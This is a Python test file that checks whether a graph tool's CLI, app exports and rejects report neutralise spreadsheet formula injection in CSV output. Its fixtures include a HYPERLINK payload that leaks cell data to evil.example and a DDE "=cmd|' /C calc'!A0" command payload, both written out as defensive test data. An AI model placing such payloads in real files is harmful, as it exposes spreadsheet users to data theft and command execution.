"""CSV cells a spreadsheet would run are neutralised in every CSV the project writes (graph/csvsafe.py):
``chokepoint query run`` / ``chokepoint cypher --format csv`` (``--raw`` keeps exact values), the app's
exports and the rejects report; JSON keeps exact values."""

from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from chokepoint.app import export
from chokepoint.cli.main import app as cli
from chokepoint.graph import csvsafe
from chokepoint.loaders.rejects import RejectsReport
from chokepoint.loaders.rows import Reject

runner = CliRunner()

# value -> as a CSV cell; pure numbers stay numbers, anything else starting with = + - @ tab CR is prefixed
CASES = {
    "=1+1": "'=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")': '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1 619 555 0100": "'+1 619 555 0100",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "-": "'-",
    "-3": "-3",
    "-3.5": "-3.5",
    "+52": "+52",
    "-1.5e3": "-1.5e3",
    "Ana = Luis": "Ana = Luis",
    "x\r=1+1": "x\r=1+1",  # one cell: a CR inside is quoted, so no reader starts a line (a formula) there
    "": "",
}


def test_the_rule_prefixes_formulas_and_keeps_plain_numbers_and_text():
    assert {v: csvsafe.neutralise(v) for v in CASES} == CASES
    assert csvsafe.safe_row(["=x", -3, None, 2.5]) == ["'=x", -3, None, 2.5]
    assert csvsafe.safe_row(["=x"], raw=True) == ["=x"]


def test_cli_csv_neutralises_every_cell_and_raw_keeps_exact_values(store, neo4j_env):
    table = _cypher_csv_list()
    assert table[0] == ["value", "n", "x", "list", "'=header"]  # a column name is a cell too
    assert [r[0] for r in table[1:]] == list(CASES.values())
    assert {(r[1], r[2], r[3]) for r in table[1:]} == {("-3", "-3.5", "'=a;b")}
    raw = _cypher_csv_list("--raw")
    assert raw[0] == ["value", "n", "x", "list", "=header"]
    assert [r[0] for r in raw[1:]] == list(CASES)
    # JSON keeps exact values
    result = runner.invoke(cli, ["cypher", "RETURN '=1+1' AS f, -3 AS n", "--format", "json"])
    assert json.loads(result.stdout)["rows"] == [{"f": "=1+1", "n": -3}]


def _cypher_csv_list(*extra: str) -> list[list[str]]:
    # one string parameter, split by Neo4j: the CLI types JSON numbers and booleans only
    sep = "\u241f"
    statement = ("UNWIND split($values, $sep) AS v RETURN v AS value, -3 AS n, -3.5 AS x, ['=a', 'b'] AS list, "
                 "v AS `=header`")
    result = runner.invoke(cli, ["cypher", statement, "-p", f"values={sep.join(CASES)}", "-p", f"sep={sep}",
                                 "--format", "csv", *extra])
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout, newline="")))


def test_cli_saved_query_csv_is_neutralised_and_out_writes_the_same_cells(store, neo4j_env, tmp_path, monkeypatch):
    queries = tmp_path / "queries"
    queries.mkdir()
    (queries / "names.cypher").write_text("// name: names\n// title: Names\n// param: first string -- a name\n\n"
                                         "RETURN $first AS name, -3.5 AS lon\n", encoding="utf-8")
    monkeypatch.setenv("CHOKEPOINT_QUERIES", str(queries))
    result = runner.invoke(cli, ["query", "run", "names", "-p", "first=@SUM(A1)", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert result.stdout == "name,lon\n'@SUM(A1),-3.5\n"
    out = tmp_path / "names.csv"
    result = runner.invoke(cli, ["query", "run", "names", "-p", "first=@SUM(A1)", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert result.stdout == "" and out.read_text(encoding="utf-8") == "name,lon\n'@SUM(A1),-3.5\n"
    result = runner.invoke(cli, ["query", "run", "names", "-p", "first=@SUM(A1)", "-f", "csv", "--raw", "-o", str(out)])
    assert out.read_text(encoding="utf-8") == "name,lon\n@SUM(A1),-3.5\n"


def test_app_exports_neutralise_cells_and_stamp_lines_stay_one_cell():
    nodes = [{"data": {"id": "a", "label": "=cmd|' /C calc'!A0", "kind": "Person", "note": "-2+3", "lon": -117.03}},
             {"data": {"id": "b", "label": "+1 619 555 0100", "kind": "Phone"}},
             {"data": {"id": "r", "source": "a", "target": "b", "type": "USES_PHONE", "@x": "@SUM(1)"}}]
    stamp = export.make_stamp(nodes, "cypher: MATCH (p) WHERE p.name = 'x,=1+1' RETURN p", {"q": "a,=2+2"})
    text, _ = export.export(nodes, "csv-nodes", stamp)
    # a spreadsheet splits every line on commas: no cell of any line, stamp lines included, is a formula
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not [c for c in cells if c.startswith(csvsafe.TRIGGERS) and csvsafe.neutralise(c) != c]
    read_stamp, rows = export.read_csv(text)
    assert read_stamp["query"] == stamp["query"] and read_stamp["params"] == {"q": "a,=2+2"}
    assert {r["id"]: (r["label"], r["note"], r["lon"]) for r in rows} == {
        "a": ("'=cmd|' /C calc'!A0", "'-2+3", "-117.03"), "b": ("'+1 619 555 0100", "", "")}
    links = export.read_csv(export.export(nodes, "csv-links", stamp)[0])[1]
    assert links[0]["'@x"] == "'@SUM(1)"
    # JSON and GraphML keep exact values
    assert json.loads(export.export(nodes, "json", stamp)[0])["nodes"][0]["label"] == "=cmd|' /C calc'!A0"
    assert ">=cmd|' /C calc'!A0<" in export.export(nodes, "graphml", stamp)[0].replace("&amp;", "&")
    rows_text = export.rows_csv(["name", "n"], [["@x", -3], ["ok", 2]], export.result_stamp("q", {}, ["name"], []))
    assert export.read_csv(rows_text)[1] == [{"name": "'@x", "n": "-3"}, {"name": "ok", "n": "2"}]
    assert export.table_csv(["port"], [{"port": "=1"}]) == "port\n'=1\n"


def test_the_rejects_report_neutralises_cells_and_keeps_the_values_exact_in_json(tmp_path):
    path = tmp_path / "rejects.csv"
    with RejectsReport(path) as report:
        report.add(Reject("persons.csv", 3, "=dob", "-not a date", {"name": "=1+1", "dob": "-2+3"}))
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert rows == [{"source_file": "persons.csv", "row": "3", "column": "'=dob", "reason": "'-not a date",
                     "original_values": '{"name": "=1+1", "dob": "-2+3"}'}]
    assert json.loads(rows[0]["original_values"]) == {"name": "=1+1", "dob": "-2+3"}


@pytest.mark.parametrize("value", ["=1", "+x", "-x", "@x", "\tx", "\rx"])
def test_every_trigger_is_neutralised(value):
    assert csvsafe.neutralise(value) == "'" + value
